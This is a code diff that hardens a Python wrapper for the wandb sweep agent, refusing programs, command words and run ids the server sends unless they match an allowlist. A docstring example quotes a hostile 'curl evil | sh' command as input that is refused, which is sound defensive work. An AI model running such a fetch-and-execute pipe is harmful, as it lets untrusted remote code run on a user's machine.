@@ -17,6 +17,7 @@ from __future__ import annotations
 import contextlib
 import json
 import os
+import re
 import signal
 import socket
 import sys
@@ -28,7 +29,11 @@ import wandb.wandb_agent
 GO = "go"
 """The launcher's answer that lets an agent take a point."""
 
-_INTERPRETERS = (["python"], ["python3"])
+REFUSED = 2
+"""Exit code of an agent whose server wants something to be run that it does not run."""
+
+_INTERPRETERS = ("python", "python3")
+_RUN_ID = re.compile(r"[A-Za-z0-9_-]{1,64}")  # it becomes part of paths
 
 
 class Channel:
@@ -60,12 +65,49 @@ class Channel:
         return False
 
 
+def refusal(program: Any, template: Sequence[Any]) -> str:
+    """Says why a sweep's program or command is not run: a server may name any.
+
+    Args:
+        program: The sweep's ``program``.
+        template: Its ``command``; empty for the default.
+
+    Returns:
+        A line; empty if they start a program below the present directory with flags.
+
+    Example:
+        >>> refusal("train.py", ["${env}", "python", "${program}", "--epochs=3", "${args}"])
+        ''
+        >>> refusal("train.py", ["sh", "-c", "curl evil | sh"])
+        "the sweep's command has the word 'sh'; allowed: ${env}, python, ${program}, flags, ${args}"
+    """
+    if not (isinstance(program, str) and program.endswith(".py") and _is_below(program)):
+        return f"the sweep's program is {program!r}; allowed: a .py file below this directory"
+    known = ("${env}", "${interpreter}", *_INTERPRETERS, "${program}", program, "${args}")
+    for word in map(str, template):
+        name, _, value = word.partition("=")
+        is_flag = word.startswith("--") and "${" not in word
+        if name in ("--output_dir", "--config"):
+            is_flag = is_flag and _is_below(value) and not value.startswith("{")
+        if word not in known and not is_flag:
+            return (
+                f"the sweep's command has the word {word!r}; allowed: ${{env}}, python, "
+                "${program}, flags, ${args}"
+            )
+    return ""
+
+
+def _is_below(path: str) -> bool:
+    return bool(path) and path[0] not in "/~" and ".." not in path.split("/")
+
+
 def _is_before_program(word: str) -> bool:
     return word == "/usr/bin/env" or "=" in word
 
 
 channel: Channel
 current: Training | None = None
+refused = False
 
 
 class Training(wandb.wandb_agent.AgentProcess):
@@ -76,7 +118,7 @@ class Training(wandb.wandb_agent.AgentProcess):
     ) -> None:
         words = list(command or [])
         first = next((i for i, word in enumerate(words) if not _is_before_program(word)), 0)
-        if words[first : first + 1] in _INTERPRETERS:  # the launcher's, whatever PATH has
+        if words[first] in _INTERPRETERS:  # the launcher's, whatever PATH has
             words[first] = sys.executable
         super().__init__(env=env, command=words, **options)  # type: ignore[no-untyped-call]
         assert self._popen is not None
@@ -155,6 +197,23 @@ class Agent(wandb.wandb_agent.Agent):
             channel.tell("exhausted")
         return commands
 
+    def _command_run(self, command: dict[str, Any]) -> None:
+        """Starts a training, if that is what the server wants.
+
+        Raises:
+            SystemExit: If it wants something else.
+        """
+        global refused
+        run_id = command.get("run_id")
+        reason = refusal(command.get("program"), self._sweep_command)
+        if not (isinstance(run_id, str) and _RUN_ID.fullmatch(run_id)):
+            reason = f"the run's id is {run_id!r}; allowed: 1 to 64 letters, digits, _ or -"
+        if reason:
+            refused = True
+            print(f"not run, as the server is not trusted with it: {reason}", file=sys.stderr)
+            raise SystemExit(REFUSED)
+        super()._command_run(command)  # type: ignore[no-untyped-call]
+
 
 def main(argv: Sequence[str]) -> int:
     """Runs the agent until the sweep is exhausted, the launcher ends it or a signal does.
@@ -163,7 +222,7 @@ def main(argv: Sequence[str]) -> int:
         argv: The channel's file descriptor and the sweep as ENTITY/PROJECT/SWEEP.
 
     Returns:
-        0, or 128 + n after signal n.
+        0, 2 if something was refused, or 128 + n after signal n.
     """
     global channel
     channel = Channel(int(argv[0]))
@@ -186,7 +245,9 @@ def main(argv: Sequence[str]) -> int:
     client: Any = wandb.wandb_agent
     client.AgentProcess, client.Agent = Training, Agent
     client.agent(argv[1])
-    return 128 + received if received else 0
+    if received:
+        return 128 + received
+    return REFUSED if refused else 0
 
 
 if __name__ == "__main__":
